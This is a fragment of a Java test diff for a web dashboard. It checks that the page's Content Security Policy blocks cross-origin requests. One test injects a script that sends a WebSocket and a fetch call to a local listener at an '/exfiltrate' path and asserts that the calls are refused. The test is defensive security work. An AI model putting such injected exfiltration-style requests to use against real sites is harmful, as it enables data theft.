+                java.net.InetAddress.getLoopbackAddress())) {
+            elsewhere.setSoTimeout(3000);
+            dashboard.runs().awaitLoaded();
+            dashboard.console();
+            browser.script("const port = arguments[0];"
+                    + "try { new WebSocket('ws://127.0.0.1:' + port + '/exfiltrate'); } catch (e) { }"
+                    + "fetch('http://127.0.0.1:' + port + '/exfiltrate').catch(() => {});", elsewhere.getLocalPort());
+
+            org.assertj.core.api.Assertions.assertThatThrownBy(elsewhere::accept)
+                    .as("nothing reached the other origin").isInstanceOf(java.net.SocketTimeoutException.class);
+            assertThat(dashboard.consoleWithCspViolationWithin(5).cspViolations()).as("the browser refused it")
+                    .isNotEmpty();
+        }
+    }
+
+    /** Asserts the browser console has no CSP violation and no error, except entries matching an allowed pattern. */
+    private void assertCleanConsole(final String page, final String... allowed) {
+        Console console = dashboard.console();
+        assertThat(console.cspViolations()).as("CSP violations on the %s page", page).isEmpty();
+        assertThat(console.errorsExcept(allowed)).as("console errors on the %s page", page).isEmpty();
+    }
+
+    private JsonNode getJson(final String path) throws IOException, InterruptedException {
+        HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(base + path)).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertThat(response.statusCode()).as("GET %s: %s", path, response.body()).isEqualTo(200);
+        return JSON.readTree(response.body());
+    }
+
+    private static RunStatus status(final RunDirectory run) {
+        try {
+            return run.readProgress().status();
+        }
+        catch (RuntimeException e) {
+            return null;
+        }
     }
 }
